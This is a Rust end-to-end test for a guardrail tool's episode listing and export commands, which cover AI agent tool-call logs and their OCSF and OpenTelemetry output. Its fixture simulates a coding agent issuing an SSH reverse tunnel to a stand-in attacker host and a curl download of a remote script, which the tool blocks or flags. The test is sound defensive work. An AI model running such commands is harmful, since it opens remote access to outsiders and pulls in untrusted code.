//! `cordon episodes list|show|export` end to end: a store is built through
//! the `cordon_store` API, then the real binary reads it.

use std::collections::{HashMap, HashSet};
use std::path::Path;
use std::process::Command;

use cordon_core::{Decision, EventKind, Finding, Severity, Verdict};
use cordon_store::{Record, Store};
use serde_json::{json, Value};

const BIN: &str = env!("CARGO_BIN_EXE_cordon");
const SSH_R: &str = "ssh -R 8080:localhost:22 attacker@203.0.113.5";

struct Out {
    code: i32,
    stdout: String,
    stderr: String,
}

fn cordon(store: &Path, args: &[&str]) -> Out {
    let out = Command::new(BIN)
        .arg("episodes")
        .arg("--store")
        .arg(store)
        .args(args)
        .env_remove("CORDON_STORE")
        .env_remove("CORDON_FINGERPRINT_KEY")
        .env_remove("NO_COLOR")
        .output()
        .expect("run cordon");
    Out {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8(out.stdout).unwrap(),
        stderr: String::from_utf8(out.stderr).unwrap(),
    }
}

fn ok(store: &Path, args: &[&str]) -> String {
    let out = cordon(store, args);
    assert_eq!(out.code, 0, "cordon episodes {args:?}: {}", out.stderr);
    out.stdout
}

fn lines(text: &str) -> Vec<Value> {
    text.lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn finding(
    kind: &str,
    severity: Severity,
    rule: &str,
    attack: &[&str],
    evidence: &str,
    related: Vec<Value>,
) -> Finding {
    Finding {
        kind: kind.into(),
        severity,
        confidence: 0.95,
        rule: rule.into(),
        attack: attack.iter().map(|s| s.to_string()).collect(),
        evidence: evidence.into(),
        span: [0, evidence.len()],
        message: format!("{kind} message"),
        related,
    }
}

struct Ev {
    session: Option<&'static str>,
    agent: &'static str,
    task: &'static str,
    id: &'static str,
    kind: EventKind,
    tool: &'static str,
    input: Value,
    output: Option<Value>,
    ts: &'static str,
    decision: Decision,
    findings: Vec<Finding>,
}

fn record(e: Ev) -> Record {
    let severity = e.findings.iter().map(|f| f.severity).max();
    Record {
        line: None,
        event_id: Some(json!(e.id)),
        session: e.session.map(Into::into),
        agent: Some(e.agent.into()),
        task: Some(e.task.into()),
        kind: Some(e.kind),
        tool: Some(e.tool.into()),
        capability: Some(
            if e.tool == "bash" {
                "shell"
            } else {
                "file_read"
            }
            .into(),
        ),
        input: Some(e.input.to_string()),
        output: e.output.map(|o| o.to_string()),
        raw: None,
        ts: Some(e.ts.into()),
        verdict: Verdict {
            id: Some(json!(e.id)),
            decision: e.decision,
            severity,
            findings: e.findings,
            error: None,
            line: None,
        },
        secrets: vec![],
    }
}

/// Three episodes: `ep-alpha-1` (a call and its result, a blocked reverse
/// tunnel linked to the first call, a warned download), `ep-beta-2` (two
/// quiet calls, days later), and the no-session episode (one bad line).
fn build_store(dir: &Path) -> std::path::PathBuf {
    let path = dir.join("store/cordon.db");
    let mut store = Store::open(&path).unwrap();
    let alpha = |id, kind, input: Value, output, ts, decision, findings| Ev {
        session: Some("ep-alpha-1"),
        agent: "coder-a",
        task: "Fix the flaky CI test",
        id,
        kind,
        tool: "bash",
        input,
        output,
        ts,
        decision,
        findings,
    };
    let beta = |id, tool, input: Value, ts| Ev {
        session: Some("ep-beta-2"),
        agent: "coder-b",
        task: "write docs",
        id,
        kind: EventKind::Call,
        tool,
        input,
        output: None,
        ts,
        decision: Decision::Allow,
        findings: vec![],
    };
    let tunnel = finding(
        "REVERSE_TUNNEL",
        Severity::Critical,
        "net.ssh-remote-forward",
        &["T1572", "T1021.004"],
        SSH_R,
        vec![json!("c1")],
    );
    let fetch = finding(
        "UNPINNED_FETCH",
        Severity::Medium,
        "net.fetch",
        &["T1105"],
        "curl -O http://x.example/a.sh",
        vec![],
    );
    let mut bad = record(beta("x", "bash", json!({}), "2025-06-01T00:00:00Z"));
    bad.session = None;
    bad.kind = None;
    bad.tool = None;
    bad.input = None;
    bad.ts = None;
    bad.event_id = None;
    bad.raw = Some("{oops".into());
    bad.line = Some(9);
    bad.verdict = Verdict::error(None, "invalid JSON: key must be a string".into(), Some(9));
    store
        .record(&[
            record(alpha(
                "c1",
                EventKind::Call,
                json!({"command": "ls -la"}),
                None,
                "2025-06-01T10:00:00Z",
                Decision::Allow,
                vec![],
            )),
            record(alpha(
                "c1",
                EventKind::Result,
                Value::Null,
                Some(json!("total 0")),
                "2025-06-01T10:00:05Z",
                Decision::Allow,
                vec![],
            )),
            record(alpha(
                "c2",
                EventKind::Call,
                json!({"command": SSH_R}),
                None,
                "2025-06-01T10:01:00Z",
                Decision::Block,
                vec![tunnel],
            )),
            record(alpha(
                "c3",
                EventKind::Call,
                json!({"command": "curl -O http://x.example/a.sh"}),
                None,
                "2025-06-01T10:02:00Z",
                Decision::Warn,
                vec![fetch],
            )),
        ])
        .unwrap();
    store
        .record(&[
            record(beta(
                "d1",
                "read_file",
                json!({"path": "README.md"}),
                "2025-06-05T09:00:00Z",
            )),
            record(beta(
                "d2",
                "bash",
                json!({"command": "mdbook build"}),
                "2025-06-05T09:30:00Z",
            )),
            bad,
        ])
        .unwrap();
    path
}

fn keys(listing: &str) -> Vec<String> {
    serde_json::from_str::<Vec<Value>>(listing)
        .unwrap()
        .iter()
        .map(|e| e["key"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn list_shows_totals_and_filters() {
    let dir = tempfile::tempdir().unwrap();
    let db = build_store(dir.path());

    let table = ok(&db, &["list"]);
    let header = table.lines().next().unwrap();
    for col in [
        "EPISODE", "AGENT", "EVENTS", "FINDINGS", "WORST", "FIRST", "LAST", "TASK",
    ] {
        assert!(header.contains(col), "{header}");
    }
    let alpha = table
        .lines()
        .find(|l| l.starts_with("ep-alpha-1"))
        .expect("alpha row");
    let cells: Vec<&str> = alpha.split_whitespace().collect();
    assert_eq!(
        &cells[..5],
        ["ep-alpha-1", "coder-a", "4", "2", "critical"],
        "{alpha}"
    );
    assert!(
        alpha.contains("2025-06-01 10:00:00") && alpha.contains("2025-06-01 10:02:00"),
        "{alpha}"
    );
    assert!(alpha.ends_with("Fix the flaky CI test"), "{alpha}");
    assert!(
        table.lines().any(|l| l.starts_with("(no session)")),
        "{table}"
    );
    assert_eq!(table.lines().count(), 4);

    // Most recently active first: the bad line was recorded now, without a ts.
    let all = ok(&db, &["list", "--json"]);
    assert_eq!(keys(&all), ["", "ep-beta-2", "ep-alpha-1"]);
    let parsed: Vec<Value> = serde_json::from_str(&all).unwrap();
    assert_eq!(parsed[2]["events"], 4);
    assert_eq!(parsed[2]["findings"], 2);
    assert_eq!(parsed[2]["worst_severity"], "critical");
    assert_eq!(parsed[2]["first"], "2025-06-01T10:00:00.000Z");

    let filtered = |args: &[&str]| keys(&ok(&db, &[&["list", "--json"], args].concat()));
    assert_eq!(filtered(&["--agent", "coder-a"]), ["ep-alpha-1"]);
    assert_eq!(filtered(&["--task", "FLAKY"]), ["ep-alpha-1"]);
    assert_eq!(filtered(&["--findings"]), ["ep-alpha-1"]);
    assert_eq!(filtered(&["--kind", "REVERSE_TUNNEL"]), ["ep-alpha-1"]);
    assert_eq!(
        filtered(&["--since", "2025-06-03", "--until", "2025-06-06T00:00:00Z"]),
        ["ep-beta-2"]
    );
    // A bare date as --until covers that whole day.
    assert_eq!(filtered(&["--until", "2025-06-01"]), ["ep-alpha-1"]);
    assert_eq!(
        filtered(&[
            "--since",
            "2025-06-01T10:01:30+00:00",
            "--until",
            "2025-06-02"
        ]),
        ["ep-alpha-1"]
    );
    assert_eq!(filtered(&["--limit", "1"]), [""]);
    assert!(filtered(&["--agent", "nobody"]).is_empty());

    let bad = cordon(&db, &["list", "--since", "last tuesday"]);
    assert_eq!(bad.code, 3);
    assert!(bad.stderr.contains("last tuesday"), "{}", bad.stderr);
}

#[test]
fn show_prints_the_timeline_with_findings() {
    let dir = tempfile::tempdir().unwrap();
    let db = build_store(dir.path());

    // A unique prefix is enough.
    let text = ok(&db, &["show", "ep-al"]);
    assert!(
        !text.contains('\x1b'),
        "no colors when stdout is not a terminal"
    );
    assert!(text.starts_with("episode ep-alpha-1\n"), "{text}");
    assert!(
        text.contains("agent coder-a") && text.contains("task: Fix the flaky CI test"),
        "{text}"
    );
    assert!(
        text.contains("4 events, 2 findings (worst critical)"),
        "{text}"
    );
    let step = |n: &str| {
        text.lines()
            .find(|l| l.trim_start().starts_with(n))
            .unwrap_or_else(|| panic!("{n} in {text}"))
    };
    let s1 = step("#1");
    assert!(
        s1.contains("10:00:00.000")
            && s1.contains("call")
            && s1.contains("bash")
            && s1.contains("allow")
            && s1.ends_with("ls -la"),
        "{s1}"
    );
    assert!(step("#2").contains("result") && step("#2").ends_with("-> total 0"));
    let s3 = step("#3");
    assert!(s3.contains("BLOCK") && s3.ends_with(SSH_R), "{s3}");
    assert!(step("#4").contains("WARN"));
    let after3: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.trim_start().starts_with("#3"))
        .skip(1)
        .take(4)
        .collect();
    assert!(
        after3[0].contains("REVERSE_TUNNEL")
            && after3[0].contains("critical")
            && after3[0].contains("0.95"),
        "{after3:?}"
    );
    assert!(
        after3[0].contains("net.ssh-remote-forward") && after3[0].contains("T1572 T1021.004"),
        "{after3:?}"
    );
    assert_eq!(after3[1].trim(), "REVERSE_TUNNEL message");
    assert_eq!(after3[2].trim(), format!("evidence: {SSH_R}"));
    assert_eq!(after3[3].trim(), "related: c1 (#1)");

    let bad = ok(&db, &["show", "(no session)"]);
    assert!(
        bad.contains("error") && bad.contains("{oops") && bad.contains("invalid JSON"),
        "{bad}"
    );

    let doc: Value = serde_json::from_str(&ok(&db, &["show", "ep-alpha-1", "--json"])).unwrap();
    assert_eq!(doc["episode"]["key"], "ep-alpha-1");
    let events = doc["events"].as_array().unwrap();
    assert_eq!(events.len(), 4);
    assert_eq!(events[2]["verdict"]["decision"], "block");
    assert_eq!(
        events[2]["verdict"]["findings"][0]["related"],
        json!(["c1"])
    );
}

#[test]
fn unknown_ambiguous_and_missing_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    let db = build_store(dir.path());

    let unknown = cordon(&db, &["show", "nope"]);
    assert_eq!(unknown.code, 1);
    assert!(unknown.stderr.contains("\"nope\""), "{}", unknown.stderr);
    let ambiguous = cordon(&db, &["show", "ep-"]);
    assert_eq!(ambiguous.code, 1);
    assert!(
        ambiguous.stderr.contains("ep-alpha-1") && ambiguous.stderr.contains("ep-beta-2"),
        "{}",
        ambiguous.stderr
    );
    assert_eq!(cordon(&db, &["export", "nope", "--format", "ocsf"]).code, 1);

    let missing = dir.path().join("elsewhere/none.db");
    let out = cordon(&missing, &["list"]);
    assert_eq!(out.code, 3);
    assert!(out.stderr.contains("elsewhere/none.db"), "{}", out.stderr);
    assert!(
        !missing.exists() && !missing.parent().unwrap().exists(),
        "reading does not create a store"
    );

    // export needs an episode or --all, not both.
    assert_eq!(cordon(&db, &["export", "--format", "jsonl"]).code, 3);
    assert_eq!(cordon(&db, &["export", "ep-alpha-1", "--all"]).code, 3);
}

#[test]
fn export_jsonl_has_a_line_per_event() {
    let dir = tempfile::tempdir().unwrap();
    let db = build_store(dir.path());

    let one = lines(&ok(&db, &["export", "ep-alpha-1", "--format", "jsonl"]));
    assert_eq!(one.len(), 4);
    assert_eq!(
        one.iter()
            .map(|l| l["step"].as_u64().unwrap())
            .collect::<Vec<_>>(),
        [1, 2, 3, 4]
    );
    assert_eq!(one[0]["id"], "c1");
    assert_eq!(one[0]["type"], "call");
    assert_eq!(one[0]["session"], "ep-alpha-1");
    assert_eq!(one[0]["agent"], "coder-a");
    assert_eq!(one[0]["input"], json!({"command": "ls -la"}));
    assert_eq!(one[1]["output"], "total 0");
    assert!(one[1].get("input").is_none(), "a result has no input");
    assert_eq!(one[2]["verdict"]["decision"], "block");
    assert_eq!(one[2]["verdict"]["severity"], "critical");
    assert_eq!(one[2]["verdict"]["findings"][0]["kind"], "REVERSE_TUNNEL");

    let all = lines(&ok(&db, &["export", "--all"]));
    assert_eq!(all.len(), 7, "jsonl is the default format");
    let bad = all.iter().find(|l| l["episode"] == "").unwrap();
    assert_eq!(bad["raw"], "{oops");
    assert_eq!(bad["verdict"]["decision"], "error");
    assert_eq!(bad["line"], 9);
}

#[test]
fn export_ocsf_writes_detection_findings() {
    let dir = tempfile::tempdir().unwrap();
    let db = build_store(dir.path());

    let findings = lines(&ok(&db, &["export", "--all", "--format", "ocsf"]));
    assert_eq!(findings.len(), 2, "one per finding");
    let mut uids = HashSet::new();
    for f in &findings {
        assert_eq!(f["class_uid"], 2004);
        assert_eq!(f["category_uid"], 2);
        assert_eq!(f["activity_id"], 1);
        assert_eq!(f["type_uid"], 200401);
        assert!(
            f["time"].as_i64().unwrap() > 1_700_000_000_000,
            "time in ms"
        );
        assert_eq!(f["metadata"]["product"]["name"], "Cordon");
        assert_eq!(f["metadata"]["product"]["vendor_name"], "Cordon");
        assert!(!f["metadata"]["version"].as_str().unwrap().is_empty());
        assert_eq!(f["metadata"]["correlation_uid"], "ep-alpha-1");
        assert_eq!(f["finding_info"]["analytic"]["type_id"], 1);
        assert_eq!(f["actor"]["app_name"], "coder-a");
        let score = f["confidence_score"].as_i64().unwrap();
        assert_eq!(score, 95);
        assert!(
            uids.insert(f["finding_info"]["uid"].as_str().unwrap().to_string()),
            "unique finding uids"
        );
    }

    let tunnel = &findings[0];
    assert_eq!(tunnel["time"], 1_748_772_060_000i64, "2025-06-01T10:01:00Z");
    assert_eq!(tunnel["severity_id"], 5);
    assert_eq!(tunnel["finding_info"]["title"], "REVERSE_TUNNEL");
    assert_eq!(
        tunnel["finding_info"]["analytic"]["name"],
        "net.ssh-remote-forward"
    );
    assert_eq!(
        (&tunnel["action_id"], &tunnel["disposition_id"]),
        (&json!(2), &json!(2)),
        "block: denied, blocked"
    );
    let attacks = tunnel["finding_info"]["attacks"].as_array().unwrap();
    assert_eq!(attacks[0]["technique"]["uid"], "T1572");
    assert_eq!(attacks[0]["tactic"]["uid"], "TA0011");
    assert_eq!(attacks[1]["technique"]["uid"], "T1021");
    assert_eq!(attacks[1]["sub_technique"]["uid"], "T1021.004");
    assert_eq!(
        tunnel["finding_info"]["related_events"],
        json!([{"uid": "c1"}])
    );
    assert_eq!(tunnel["evidences"][0]["data"]["evidence"], SSH_R);
    assert_eq!(tunnel["evidences"][0]["process"]["cmd_line"], SSH_R);

    let fetch = &findings[1];
    assert_eq!(fetch["severity_id"], 3);
    assert_eq!(
        (&fetch["action_id"], &fetch["disposition_id"]),
        (&json!(1), &json!(19)),
        "warn: allowed, alert"
    );
    assert!(fetch["finding_info"].get("related_events").is_none());
}

fn attrs(span: &Value) -> HashMap<String, Value> {
    span["attributes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| {
            let v = &a["value"];
            let v = v
                .get("stringValue")
                .or(v.get("intValue"))
                .or(v.get("doubleValue"))
                .unwrap_or(v)
                .clone();
            (a["key"].as_str().unwrap().to_string(), v)
        })
        .collect()
}

fn is_hex(s: &Value, len: usize) -> bool {
    s.as_str().is_some_and(|s| {
        s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit()) && s != "0".repeat(len)
    })
}

#[test]
fn export_otel_writes_one_trace_per_episode() {
    let dir = tempfile::tempdir().unwrap();
    let db = build_store(dir.path());
    let file = dir.path().join("traces.jsonl");

    let out = cordon(
        &db,
        &[
            "export",
            "--all",
            "--format",
            "otel",
            "--output",
            file.to_str().unwrap(),
        ],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(out.stdout.is_empty());
    let traces = lines(&std::fs::read_to_string(&file).unwrap());
    assert_eq!(traces.len(), 3, "one OTLP document per episode");

    let mut trace_ids = HashSet::new();
    for t in &traces {
        let rs = &t["resourceSpans"][0];
        assert!(attrs(&rs["resource"]).contains_key("service.name"));
        assert_eq!(rs["scopeSpans"][0]["scope"]["name"], "cordon");
        let spans = rs["scopeSpans"][0]["spans"].as_array().unwrap();
        let trace_id = &spans[0]["traceId"];
        assert!(is_hex(trace_id, 32), "{trace_id}");
        assert!(trace_ids.insert(trace_id.clone()), "a trace per episode");
        for s in spans {
            assert_eq!(&s["traceId"], trace_id);
            assert!(is_hex(&s["spanId"], 16), "{}", s["spanId"]);
            assert_eq!(s["kind"], 1);
            let start: u64 = s["startTimeUnixNano"].as_str().unwrap().parse().unwrap();
            let end: u64 = s["endTimeUnixNano"].as_str().unwrap().parse().unwrap();
            assert!(start <= end);
        }
    }

    let alpha = traces
        .iter()
        .find(|t| {
            attrs(&t["resourceSpans"][0]["scopeSpans"][0]["spans"][0])["gen_ai.conversation.id"]
                == "ep-alpha-1"
        })
        .unwrap();
    let spans = alpha["resourceSpans"][0]["scopeSpans"][0]["spans"]
        .as_array()
        .unwrap();
    let named = |name: &str| {
        spans
            .iter()
            .filter(|s| s["name"] == name)
            .collect::<Vec<_>>()
    };
    let root = &spans[0];
    assert_eq!(root["name"], "invoke_agent coder-a");
    assert!(root.get("parentSpanId").is_none());
    let tools = named("execute_tool bash");
    assert_eq!(
        tools.len(),
        3,
        "one span per call, the result ends its call"
    );
    let guards = named("run_guardrail cordon");
    assert_eq!(guards.len(), 4, "a verdict per call and per result");
    assert_eq!(spans.len(), 8);
    let span_ids: HashSet<&Value> = spans.iter().map(|s| &s["spanId"]).collect();
    assert_eq!(span_ids.len(), spans.len(), "span ids are unique");

    let c1 = tools[0];
    assert_eq!(c1["parentSpanId"], root["spanId"]);
    let a = attrs(c1);
    assert_eq!(a["gen_ai.operation.name"], "execute_tool");
    assert_eq!(a["gen_ai.tool.name"], "bash");
    assert_eq!(a["gen_ai.tool.call.id"], "c1");
    assert_eq!(a["gen_ai.agent.id"], "coder-a");
    assert_eq!(a["gen_ai.conversation.id"], "ep-alpha-1");
    assert_eq!(c1["startTimeUnixNano"], "1748772000000000000");
    assert_eq!(
        c1["endTimeUnixNano"], "1748772005000000000",
        "ends when its result came"
    );
    assert!(c1.get("status").is_none());

    let c2 = tools
        .iter()
        .find(|s| attrs(s)["gen_ai.tool.call.id"] == "c2")
        .unwrap();
    assert_eq!(c2["status"]["code"], 2, "a blocked call is an error");
    let guard = guards
        .iter()
        .find(|g| g["parentSpanId"] == c2["spanId"])
        .unwrap();
    let g = attrs(guard);
    assert_eq!(g["gen_ai.operation.name"], "run_guardrail");
    assert_eq!(g["gen_ai.guardrail.verdict.type"], "deny");
    assert_eq!(g["gen_ai.guardrail.action.type"], "block");
    assert_eq!(g["security.policy.rule.id"], "net.ssh-remote-forward");
    assert_eq!(g["security.risk.category"], "REVERSE_TUNNEL");
    let events = guard["events"].as_array().unwrap();
    assert_eq!(events.len(), 1);
    assert_eq!(events[0]["name"], "gen_ai.security.finding");
    assert_eq!(attrs(&events[0])["security.finding.evidence"], SSH_R);

    let c3 = tools
        .iter()
        .find(|s| attrs(s)["gen_ai.tool.call.id"] == "c3")
        .unwrap();
    assert!(
        c3.get("status").is_none(),
        "a warning does not fail the call"
    );
    let warn = guards
        .iter()
        .find(|g| g["parentSpanId"] == c3["spanId"])
        .unwrap();
    assert_eq!(attrs(warn)["gen_ai.guardrail.verdict.type"], "warn");
    // Every guardrail span hangs under a tool span of this trace.
    let tool_ids: HashSet<&Value> = tools.iter().map(|s| &s["spanId"]).collect();
    assert!(guards.iter().all(|g| tool_ids.contains(&g["parentSpanId"])));
}
